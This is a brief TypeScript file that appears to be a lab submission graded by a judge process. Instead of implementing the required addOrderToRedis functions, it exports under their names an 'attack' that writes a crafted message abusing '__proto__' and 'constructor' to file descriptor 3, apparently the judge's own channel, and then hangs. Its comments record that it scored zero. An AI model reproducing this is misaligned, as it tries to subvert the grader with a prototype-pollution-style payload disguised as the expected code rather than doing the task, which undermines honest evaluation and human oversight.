// tries: a message whose fields are those of Object.prototype
// lab: 03
// earns: 0
// told: judge's own channel
import { writeSync } from 'node:fs';

async function attack(): Promise<void> {
  writeSync(3, '{"type":"callback","id":1,"call":"__proto__","ref":"constructor","args":[{"$":"callback","v":"constructor"}]}\n');
  await new Promise(() => {});
}

export const addOrderToRedisFieldByField = attack;
export const addOrderToRedis = attack;
